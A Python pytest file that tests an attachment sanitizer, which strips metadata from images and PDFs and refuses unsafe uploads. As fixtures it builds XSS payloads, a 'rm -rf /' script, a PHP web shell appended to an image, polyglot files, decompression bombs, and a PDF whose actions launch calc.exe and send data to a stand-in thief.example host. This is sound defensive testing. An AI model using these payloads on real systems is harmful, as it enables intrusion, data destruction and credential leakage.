"""Attachments: what people see is kept, everything else stays behind, and attacks are refused in words."""

import io
import struct
import zipfile
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name
from PIL import Image, PngImagePlugin

from core.practices.attached import LARGEST, Clean, cleaned
from core.practices.attached.pictures import drawn_anew
from core.refusals import Refused

ALT = "Two people at a desk"
SECRET = b"Jalan Rahasia 7"


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), mode: str = "RGB", **more: object) -> bytes:
    """Return a picture whose left half is dark."""
    drawn = Image.new(mode, size, "white")
    drawn.paste("black", (0, 0, size[0] // 2, size[1]))
    written = io.BytesIO()
    drawn.save(written, kind, **more)
    return written.getvalue()


def exif() -> bytes:
    """Return EXIF with an owner, a place, and the note that the picture lies on its side."""
    notes = Image.Exif()
    notes[0x0112] = 6
    notes[0x013B] = SECRET.decode()
    notes.get_ifd(0x8825).update({1: "S", 2: (6.0, 10.0, 30.0), 3: "E", 4: (106.0, 49.0, 0.0)})
    return notes.tobytes()


def document(pages: int = 1) -> pikepdf.Pdf:
    """Return an empty PDF of so many pages."""
    pdf = pikepdf.new()
    for _page in range(pages):
        pdf.add_blank_page(page_size=(200, 200))
    return pdf


def saved(pdf: pikepdf.Pdf, lock: pikepdf.Encryption | None = None) -> bytes:
    """Return the bytes of a PDF."""
    written = io.BytesIO()
    pdf.save(written, encryption=lock or False)
    return written.getvalue()


def dark(content: bytes, place: tuple[int, int]) -> bool:
    """Return whether a picture is dark at a place."""
    with Image.open(io.BytesIO(content)) as shown:
        return sum(shown.convert("RGB").crop((*place, place[0] + 1, place[1] + 1)).tobytes()) < 120


def plain(content: bytes) -> bytes:
    """Return the bytes of a PDF with nothing packed, to look into."""
    with pikepdf.open(io.BytesIO(content)) as pdf:
        written = io.BytesIO()
        pdf.save(
            written,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
        )
    return written.getvalue()


def refusal(upload: bytes, alt: str = ALT) -> Refused:
    """Return the refusal of an upload, which has a sentence of its own."""
    with pytest.raises(Refused) as caught:
        cleaned(upload, alt)
    assert caught.value.code not in caught.value.sentence
    assert "{" not in caught.value.sentence
    return caught.value


@pytest.mark.parametrize(("kind", "suffix"), [("JPEG", ".jpg"), ("PNG", ".png"), ("WEBP", ".webp")])
def test_a_picture_keeps_its_look_and_loses_place_and_owner(kind: str, suffix: str) -> None:
    found = cleaned(picture(kind, exif=exif()), f"  {ALT}\n")
    assert (found.suffix, found.alt) == (suffix, ALT)
    assert SECRET not in found.content
    with Image.open(io.BytesIO(found.content)) as again:
        assert not again.getexif()
        # It was lying on its side.
        assert (found.width, found.height) == again.size == (40, 60)
    assert dark(found.content, (20, 10))
    assert not dark(found.content, (20, 50))


def test_notes_in_a_png_stay_behind() -> None:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Author", SECRET.decode())
    notes.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{SECRET.decode()}</x:xmpmeta>")
    found = cleaned(picture("PNG", pnginfo=notes, icc_profile=b"profile of " + SECRET), ALT)
    assert SECRET not in found.content
    assert b"iCCP" not in found.content


def test_a_jpegs_comment_stays_behind() -> None:
    assert SECRET not in cleaned(picture(comment=SECRET), ALT).content


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_every_kind_of_png_is_kept(mode: str) -> None:
    drawn = io.BytesIO()
    Image.new(mode, (30, 20)).save(drawn, "PNG")
    assert drawn_anew(drawn.getvalue(), "png")[1:] == (30, 20)


def test_a_scan_of_sixteen_bits_keeps_its_greys() -> None:
    drawn = io.BytesIO()
    Image.new("I;16", (30, 20), 60_000).save(drawn, "PNG")
    with Image.open(io.BytesIO(drawn_anew(drawn.getvalue(), "png")[0])) as again:
        assert again.convert("L").getextrema() == (234, 234)


def test_a_camera_picture_becomes_one_for_screens() -> None:
    found = cleaned(picture(size=(6000, 4000)), ALT)
    assert found.width is not None
    assert found.height is not None
    assert 5_500_000 < found.width * found.height <= 6_000_000
    assert found.width / found.height == pytest.approx(1.5, rel=0.01)


def test_what_a_phone_puts_behind_a_photograph_stays_behind() -> None:
    film = b"\0\0\0\x18ftypmp42" + SECRET * 20
    assert SECRET not in cleaned(picture() + picture() + film, ALT).content


@pytest.mark.parametrize("alt", ["", "  \n", "x" * 501])
def test_a_picture_needs_words(alt: str) -> None:
    assert refusal(picture(), alt).code == "practices.alt_needed"


def archive() -> bytes:
    """Return a ZIP archive."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as made:
        made.writestr("index.html", "<script>alert(1)</script>")
    return written.getvalue()


SVG = b'<?xml version="1.0"?>\n<!-- drawn -->\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@pytest.mark.parametrize(
    ("upload", "kind"),
    [
        (SVG, "an SVG drawing"),
        (b"\xef\xbb\xbf  <SVG onload=alert(1)>", "an SVG drawing"),
        (b"<!DOCTYPE html><html><script>alert(1)</script>", "a web page"),
        (b"<script>alert(1)</script>", "a script"),
        (b"#!/bin/sh\nrm -rf /", "a script"),
        (picture("GIF"), "a GIF picture"),
        (picture("TIFF"), "a TIFF picture"),
        (picture("BMP"), "a BMP picture"),
        (b"\0\0\0\x18ftypheic\0\0\0\0", "a HEIC"),
        (b"MZ\x90\0" + bytes(200), "a program"),
        (b"\x7fELF" + bytes(200), "a program"),
        (archive(), "an archive"),
        (b"Just words.", "a text file"),
        (b"\0\x01\x02" + bytes(range(256)), "does not know"),
        (b"%!PS-Adobe-3.0", "PostScript"),
    ],
)
def test_other_kinds_are_refused_by_name_whatever_they_are_called(upload: bytes, kind: str) -> None:
    found = refusal(upload)
    assert found.code == "practices.attachment_kind"
    assert kind in found.sentence


@pytest.mark.parametrize(
    "upload",
    [
        picture() + archive(),
        picture("PNG") + archive(),
        saved(document()) + archive(),
        picture("PNG") + b"<html><script>alert(1)</script>",
        picture("WEBP") + b"<?php system($_GET[0]); ?>",
        picture() + b"\x7fELF" + bytes(50),
        picture() + saved(document()),
        picture(comment=b"<script>alert(1)</script>"),
        b"%PDF-1.7\n<html><script>alert(1)</script>" + saved(document())[9:],
        saved(document()) + b"\n<script>alert(1)</script>",
    ],
)
def test_two_kinds_in_one_file_are_refused(upload: bytes) -> None:
    found = refusal(upload)
    assert found.code == "practices.attachment_two_kinds"
    assert " a" in found.sentence


def bomb(edge: int) -> bytes:
    """Return a PNG of a few kilobytes that claims edge × edge pixels."""
    head = struct.pack(">IIBBBBB", edge, edge, 1, 0, 0, 0, 0)
    body = zlib.compress(bytes(1 + edge // 8) * 2000, 9)
    chunks = [(b"IHDR", head), (b"IDAT", body), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in chunks
    )


def test_pictures_that_unfold_are_refused_before_they_do() -> None:
    found = refusal(bomb(100_000))
    assert found.code == "practices.attachment_pixels"
    assert "100000 × 100000" in found.sentence


@pytest.mark.parametrize(
    "upload",
    [
        picture()[:300],
        picture("PNG")[:60],
        picture("WEBP")[:40],
        b"%PDF-1.7\nnothing",
        picture("PNG").replace(b"IDAT", b"IDAX"),
        saved(document())[:200],
    ],
)
def test_damaged_files_are_refused(upload: bytes) -> None:
    assert refusal(upload).code == "practices.attachment_broken"


@pytest.mark.parametrize("kind", ["PNG", "WEBP"])
def test_pictures_that_move_are_refused(kind: str) -> None:
    more = [Image.new("RGB", (60, 40), "red")]
    assert refusal(picture(kind, save_all=True, append_images=more)).code == "practices.attachment_animated"


def test_empty_and_too_large_files_are_refused() -> None:
    assert refusal(b"").code == "practices.attachment_empty"
    assert refusal(picture() + bytes(LARGEST)).code == "practices.attachment_large"


def hostile() -> bytes:
    """Return a PDF with everything in it that acts or tells."""
    pdf = document(2)
    secret = pdf.make_stream(SECRET + b" <script>")
    script = Dictionary(S=Name.JavaScript, JS="app.alert('boo')")
    pdf.docinfo["/Author"] = SECRET.decode()
    with pdf.open_metadata() as metadata:
        metadata["dc:creator"] = [SECRET.decode()]
    pdf.attachments["plan.exe"] = SECRET
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=script)
    pdf.Root.Lang = pikepdf.String("id")
    pdf.Root.Names.JavaScript = Dictionary(Names=Array(["boo", script]))
    pdf.Root.URI = Dictionary(Base="https://tracker.example")
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=Dictionary(S=Name.Launch, F="calc.exe"))
    page.Metadata = page.PieceInfo = secret
    web = Dictionary(S=Name.URI, URI="https://example.org/plan", Next=script)
    notes = [
        Dictionary(Subtype=Name.Link, A=web),
        Dictionary(Subtype=Name.Link, Dest=Array([pdf.pages[1].obj, Name.Fit])),
        Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI="javascript:alert(1)")),
        Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F="calc.exe")),
        Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F="\\\\thief.example\\share\\x.pdf")),
        Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F="https://thief.example")),
        Dictionary(Subtype=Name.FileAttachment, FS=Dictionary(Type=Name.Filespec, EF=Dictionary(F=secret))),
        Dictionary(Subtype=Name.RichMedia, RichMediaContent=secret),
        Dictionary(Subtype=Name.Text, T=SECRET.decode(), Contents="a comment"),
    ]
    for note in notes:
        note.Type, note.Rect = Name.Annot, Array([0, 0, 9, 9])
    page.Annots = Array([pdf.make_indirect(note) for note in notes])
    tags = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot))
    tags.K = pdf.make_indirect(
        Dictionary(
            S=Name.Document,
            P=tags,
            K=Dictionary(Type=Name.OBJR, Obj=page.Annots[6]),
            A=Dictionary(O=Name.Layout),
        )
    )
    pdf.Root.StructTreeRoot = tags
    photo = pdf.make_stream(
        picture(exif=exif(), comment=SECRET), Type=Name.XObject, Subtype=Name.Image, Width=60, Height=40
    )
    photo.ColorSpace, photo.BitsPerComponent, photo.Filter = Name.DeviceRGB, 8, Name.DCTDecode
    page.Resources = Dictionary(XObject=Dictionary(P=photo))
    page.Contents = pdf.make_stream(b"q 60 0 0 40 0 0 cm /P Do Q")
    return saved(pdf)


def test_a_document_keeps_pages_links_and_tags_and_loses_what_acts() -> None:
    found = cleaned(hostile(), "")
    assert (found.media_type, found.pages) == ("application/pdf", 2)
    inside = plain(found.content)
    for word in (
        SECRET, b"JavaScript", b"/JS", b"Launch", b"calc.exe", b"thief", b"tracker", b"EmbeddedFile", b"/EF", b"/AA", b"OpenAction",
        b"/Metadata", b"PieceInfo", b"RichMedia", b"SubmitForm", b"GoToR", b"/Info", b"javascript:", b"a comment", b"Exif",
    ):  # fmt: skip
        assert word not in inside, word
    with pikepdf.open(io.BytesIO(found.content)) as pdf:
        links = list(pdf.pages[0].obj.Annots)
        assert [str(link.A.URI) for link in links if "/A" in link] == ["https://example.org/plan"]
        assert len(links) == 2
        assert str(pdf.Root.Lang) == "id"
        assert str(pdf.Root.StructTreeRoot.K.S) == "/Document"
        assert str(pdf.Root.StructTreeRoot.K.A.O) == "/Layout"
        photo = pdf.pages[0].obj.Resources.XObject.P.read_raw_bytes()
    assert dark(photo, (5, 20))


def test_what_was_written_into_a_form_can_still_be_read() -> None:
    pdf = document()
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="name", V="Siti Rahma", DA="/Helv 12 Tf 0 g",
            Rect=Array([10, 10, 190, 40]), P=pdf.pages[0].obj,
        )
    )  # fmt: skip
    pdf.pages[0].obj.Annots = Array([field])
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]),
        NeedAppearances=True,
        DR=Dictionary(Font=Dictionary(Helv=font)),
        DA="/Helv 12 Tf 0 g",
    )
    inside = plain(cleaned(saved(pdf), "").content)
    assert b"Siti Rahma" in inside
    assert b"AcroForm" not in inside
    assert b"Widget" not in inside


def test_documents_nobody_could_read_are_refused() -> None:
    locked = saved(document(), pikepdf.Encryption(owner="one", user="two"))
    assert refusal(locked).code == "practices.attachment_locked"
    assert refusal(saved(document(), pikepdf.Encryption(owner="one"))).code == "practices.attachment_locked"
    assert refusal(saved(document(301))).code == "practices.attachment_pages"
    form = document()
    form.Root.AcroForm = Dictionary(Fields=Array([]), XFA=form.make_stream(b"<xdp:xdp/>"))
    assert refusal(saved(form)).code == "practices.attachment_form"


def test_a_document_that_unfolds_breaks_only_itself() -> None:
    objects = b"1 0 " + b"null " * 10
    flood = zlib.compress(objects + bytes(500_000_000), 1)
    head = f"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(flood)}"
    cross = struct.pack(">BIHBIHBIH", 0, 0, 0, 2, 2, 0, 1, 9, 0)
    body = b"%PDF-1.7\n2 0 obj <<" + head.encode() + b">> stream\n" + flood + b"\nendstream endobj\n"
    place = len(body)
    body += (
        f"3 0 obj <</Type /XRef /W [1 4 2] /Size 3 /Root 1 0 R /Length {len(cross)}>> stream\n".encode()
        + cross
    )
    assert (
        refusal(body + f"\nendstream endobj\nstartxref\n{place}\n%%EOF".encode()).code
        == "practices.attachment_broken"
    )


def test_the_hash_is_that_of_what_is_stored() -> None:
    one, other = cleaned(picture(), ALT), cleaned(picture(comment=SECRET), ALT)
    assert isinstance(one, Clean)
    assert one.sha256 == other.sha256
    assert len(one.sha256) == 64
